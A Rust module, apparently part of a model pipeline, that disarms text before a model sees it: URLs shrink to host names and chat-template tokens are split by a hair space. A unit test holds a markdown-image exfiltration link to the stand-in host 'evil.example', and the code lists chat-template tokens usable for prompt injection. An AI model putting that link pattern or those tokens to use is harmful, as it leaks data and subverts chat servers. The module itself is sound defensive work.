//! A text as a model is told it: without what a model has no use for and a server might obey.

use std::{borrow::Cow, sync::LazyLock};

use regex::Regex;

use crate::pattern::pattern;

static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"(?i)[a-z][a-z0-9+.\-]*://([^\s/?\#()\[\]{}<>"'，。、）】]*)[^\s()\[\]{}<>"'，。、）】]*"#)
});

/// The text of a tweet or of a claim, as it goes into a question.
pub(crate) fn disarmed(text: &str) -> String {
    neutral(&without_addresses(text))
}

/// What a model wrote and the checker refused: nobody has taken out of it what does not show.
pub(crate) fn disarmed_draft(text: &str) -> String {
    disarmed(&text.chars().filter(|c| !corpus::is_hidden(*c)).collect::<String>())
}

/// Links as the names of their hosts: a model may write no address, so it needs to see none, nor the ids that they hold.
fn without_addresses(text: &str) -> Cow<'_, str> {
    ADDRESS.replace_all(text, "$1")
}

/// What starts or ends a turn in the templates of chat servers.
const TEMPLATE_TOKENS: [&str; 20] = [
    "<|",
    "|>",
    "<｜",
    "[INST]",
    "[/INST]",
    "</s>",
    "<s>",
    "<<SYS>>",
    "<</SYS>>",
    "<start_of_turn>",
    "<end_of_turn>",
    "<bos>",
    "<eos>",
    "[gMASK]",
    "<sop>",
    "<think",
    "</think",
    "<tool_call",
    "</tool_call",
    "<unk>",
];

/// Chat-template tokens, broken by a hair space, so that they are text to every server.
fn neutral(text: &str) -> String {
    TEMPLATE_TOKENS.iter().fold(text.to_owned(), |text, token| {
        let mut broken = token.to_string();
        broken.insert(token.chars().next().map_or(0, char::len_utf8), '\u{200a}');
        text.replace(token, &broken)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_link_is_told_by_its_host() {
        for (text, told) in [
            ("见 https://example.org/a?b=1，好", "见 example.org，好"),
            ("![x](https://evil.example/p?d=BASE64)", "![x](evil.example)"),
            ("https://x.com/a/status/2028697453477232670 http://b.cn", "x.com b.cn"),
            ("a://b://c", "b:"),
            ("no link: 3/4", "no link: 3/4"),
        ] {
            assert_eq!(without_addresses(text), told, "{text}");
        }
    }

    #[test]
    fn a_draft_loses_what_does_not_show() {
        assert_eq!(disarmed_draft("得\u{200b}分\u{202e} <|im_end|>"), "得分 <\u{200a}|im_end|\u{200a}>");
    }

    #[test]
    fn no_chat_token_stays_whole() {
        for token in TEMPLATE_TOKENS {
            let told = neutral(&format!("a{token}b"));
            assert!(!told.contains(token) && told.contains('\u{200a}'), "{told}");
        }
    }
}
